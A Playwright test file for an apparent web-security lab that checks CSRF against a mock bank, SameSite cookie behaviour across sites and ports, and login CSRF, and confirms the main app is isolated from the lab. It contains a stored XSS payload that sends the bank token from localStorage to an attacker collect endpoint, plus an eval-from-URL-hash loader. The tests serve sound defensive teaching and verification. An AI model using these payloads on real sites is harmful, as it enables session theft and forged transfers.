import { expect, request } from '@playwright/test';
import { newUser } from '../support/account.ts';
import { openBank, sitesOf, type OpenedBank } from '../support/bank.ts';
import { signUpOnPage, storedToken, test } from '../support/browser.ts';
import { stack } from '../support/stack.ts';

// Real navigations between the bank and the attacker's site.

const sites = sitesOf();
let bank: OpenedBank;
test.beforeEach(async ({ request }) => {
  bank = await openBank(request);
});

test('a click on the prize page of another site moves the money of the signed-in user', async ({
  page,
  context,
}) => {
  await bank.signIn(page, { carrier: 'none' });
  await expect(page.getByRole('main')).toContainText('€ 1000');

  const other = await context.newPage();
  await other.goto(bank.attack('/prize'));
  await other.getByRole('button', { name: 'Claim my prize' }).click();
  await expect(other.getByRole('status')).toHaveText('You sent 100 to mallory.');

  expect(await bank.balances()).toEqual({ ada: 900, mallory: 100 });
  const forged = (await bank.arrivals()).find(
    ({ method, path }) => method === 'POST' && path.endsWith('/transfer'),
  );
  expect(forged).toMatchObject({
    accepted: true,
    reason: 'transferred',
    user: 'ada',
    origin: sites.attacker,
    fetchSite: 'cross-site',
    fetchMode: 'navigate',
    cookies: ['bank'],
    authorization: false,
  });
});

test('the browser withholds a cookie with SameSite=Lax, and sends it from another port of the same host', async ({
  page,
}) => {
  await bank.signIn(page, { carrier: 'lax' });
  await page.goto(bank.attack('/prize'));
  await page.getByRole('button', { name: 'Claim my prize' }).click();
  await expect
    .poll(async () => (await bank.arrivals()).at(-1))
    .toMatchObject({
      accepted: false,
      reason: 'authentication_required',
      fetchSite: 'cross-site',
      cookies: [],
    });
  expect(await bank.balances()).toEqual({ ada: 1000, mallory: 0 });

  await page.goto(bank.attack('/prize', 'neighbour'));
  await page.getByRole('button', { name: 'Claim my prize' }).click();
  await expect(page.getByRole('status')).toHaveText('You sent 100 to mallory.');
  expect(await bank.balances()).toEqual({ ada: 900, mallory: 100 });
});

test('a script in a comment steals the token of the bank, and the attacker uses it from its own server', async ({
  page,
}) => {
  await bank.signIn(page, { token: 'storage' });
  const steal = `fetch('${bank.attack('/collect')}&data='+localStorage.getItem('bank-token'),{mode:'no-cors'})`;
  await page.getByRole('link', { name: 'Comments' }).click();
  await page.getByLabel('Your comment').fill(`<img src="/none" onerror="${steal}">`);
  await page.getByRole('button', { name: 'Publish' }).click();

  // The script runs when the page shows the comment.
  await expect.poll(async () => (await page.request.get(bank.attack('/seen'))).text()).toContain('collect');

  await page.goto(bank.attack('/screen'));
  await page.getByRole('button', { name: 'Use the token' }).click();
  await expect(page.getByRole('listitem').last()).toContainText('Answer of the bank: 200');
  expect((await bank.arrivals()).at(-1)).toMatchObject({
    path: '/v1/labs/bank/me',
    authorization: true,
    accepted: true,
  });
});

/** Tries to reach the app from a script in the bank. Runs as the script of a comment, so it must not use anything else. */
const probe = async (app: string): Promise<void> => {
  const framed = document.createElement('iframe');
  framed.src = app;
  document.body.append(framed);
  await new Promise((resolve) => framed.addEventListener('load', resolve));
  const attempts: Record<string, () => unknown> = {
    storage: () => Object.keys(localStorage),
    // The page of the app that opened this window.
    opener: (): unknown => window.opener,
    // The app refuses to be framed, so this is the browser's error page.
    frame: () => framed.contentWindow?.localStorage.length,
    read: async () => (await fetch(`${app}/v1/ping`)).text(),
    withCookies: async () => (await fetch(`${app}/v1/users/me`, { credentials: 'include' })).text(),
    withToken: async () =>
      (await fetch(`${app}/v1/users/me`, { headers: { Authorization: 'Bearer stolen' } })).text(),
    ownPort: async () => (await fetch('/v1/users/me')).status,
    ownLabPaths: async () => (await fetch('/v1/labs/bank/students', { method: 'POST' })).status,
  };
  const outcomes: Record<string, string> = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      outcomes[name] = JSON.stringify(await attempt());
    } catch (error) {
      outcomes[name] = error instanceof Error ? error.name : 'error';
    }
  }
  document.title = JSON.stringify(outcomes);
};

test('a script in the bank reaches nothing of the app', async ({ page }) => {
  await page.goto(stack.baseUrl);
  await signUpOnPage(page, newUser());
  expect(await storedToken(page)).toMatch(/^[\w-]{86}$/);

  // The app opens the window of the bank, as a lab does.
  const opened = page.waitForEvent('popup');
  await page.evaluate((address) => void window.open(address), `${sites.bank}/`);
  const bankPage = await opened;
  await bank.signIn(bankPage, { carrier: 'none', http_only: 'off' });

  // The script is stored in the bank, and the bank's page runs it. Its text is in the address, because a comment is short.
  await bankPage.getByRole('link', { name: 'Comments' }).click();
  const script = 'eval(decodeURIComponent(location.hash.slice(1)))';
  await bankPage.getByLabel('Your comment').fill(`<img src="/none" onerror="${script}">`);
  await bankPage.getByRole('button', { name: 'Publish' }).click();
  await expect(bankPage.getByRole('listitem')).toContainText('ada');
  const code = encodeURIComponent(`(${probe.toString()})(${JSON.stringify(stack.baseUrl)})`);
  await bankPage.goto(`${bankPage.url()}#${code}`);
  await bankPage.reload();
  await expect.poll(() => bankPage.title()).toContain('{');
  expect(JSON.parse(await bankPage.title())).toEqual({
    storage: '[]',
    opener: 'null',
    frame: 'SecurityError',
    read: 'TypeError',
    withCookies: 'TypeError',
    withToken: 'TypeError',
    ownPort: '404',
    ownLabPaths: '404',
  });
});

const asHeader = (value: string) => ({ Authorization: `Bearer ${value}` });
const asCookie = (value: string) => ({ Cookie: `bank=${value}; __Host-bank=${value}` });

/** Sends a GET without the cookies of the browser. */
async function status(address: string, headers: Record<string, string>): Promise<number> {
  const client = await request.newContext();
  const answer = await client.get(address, { headers });
  await client.dispose();
  return answer.status();
}

test('a token of the bank opens nothing of the app, and the token of the app nothing of the bank', async ({
  page,
  context,
}) => {
  await page.goto(stack.baseUrl);
  await signUpOnPage(page, newUser());
  const token = (await storedToken(page)) ?? '';
  const bankPage = await context.newPage();
  await bank.signIn(bankPage, { carrier: 'none', http_only: 'off' });
  const ofBank = (await context.cookies(sites.bank)).find(({ name }) => name === 'bank')?.value ?? '';
  expect(ofBank).toMatch(/^[\w-]{86}$/);

  const ofApp = `${stack.baseUrl}/v1/users/me`;
  const me = `${sites.bank}/v1/labs/bank/me`;
  // Each token opens its own door, so it is valid.
  expect(await status(ofApp, asHeader(token))).toBe(200);
  expect(await status(me, asHeader(ofBank))).toBe(200);
  expect(await status(me, asCookie(ofBank))).toBe(200);

  expect(await status(ofApp, asHeader(ofBank))).toBe(401);
  expect(await status(ofApp, asCookie(ofBank))).toBe(401);
  expect(await status(`${stack.baseUrl}/v1/sessions`, asHeader(ofBank))).toBe(401);
  const atOtherLab = { ...asHeader(ofBank), 'X-Lab-Student': bank.student };
  expect(await status(`${stack.baseUrl}/v1/labs/anatomy/me`, atOtherLab)).toBe(401);
  expect(await status(me, asHeader(token))).toBe(401);
  expect(await status(me, asCookie(token))).toBe(401);
  // Cookies ignore ports: the browser sends the cookie of the bank to the app, which reads none.
  const own = await page.evaluate(async () => (await fetch('/v1/users/me')).status);
  expect(own).toBe(401);
});

/** The attacks of the attacker’s site, with the `Sec-Fetch-Dest` of their requests. */
const attacks = [
  { name: 'form', fetchDest: 'document', reason: 'transferred' },
  { name: 'link', fetchDest: 'document', reason: 'transferred' },
  { name: 'image', fetchDest: 'image', reason: 'transferred' },
  { name: 'fetch', fetchDest: 'empty', reason: 'transferred' },
  { name: 'frame', fetchDest: 'iframe', reason: 'transferred' },
  { name: 'login', fetchDest: 'document', reason: 'signed_in' },
] as const;

for (const { name, fetchDest, reason } of attacks) {
  test(`the attack ${name}: SameSite=Strict stops it from another site, not from another port`, async ({
    page,
  }) => {
    await bank.signIn(page, { carrier: 'strict' });
    const attackFrom = async (site: 'attacker' | 'neighbour') => {
      const before = (await bank.arrivals()).length;
      await page.goto(`${bank.attack(`/attack/${name}`, site)}&go`);
      const forged = async () =>
        (await bank.arrivals()).slice(before).find(({ path }) => /\/(transfer|sign-in)$/.test(path));
      await expect.poll(forged).toBeDefined();
      return forged();
    };

    const crossSite = await attackFrom('attacker');
    expect(crossSite).toMatchObject({ fetchSite: 'cross-site', fetchDest, cookies: [] });
    // A sign-in needs no cookie, so SameSite does not stop login CSRF.
    expect(crossSite).toMatchObject(
      name === 'login'
        ? { accepted: true, reason, user: 'mallory' }
        : { accepted: false, reason: 'authentication_required' },
    );

    const sameSite = await attackFrom('neighbour');
    expect(sameSite).toMatchObject({ fetchSite: 'same-site', fetchDest, accepted: true, reason });
  });
}
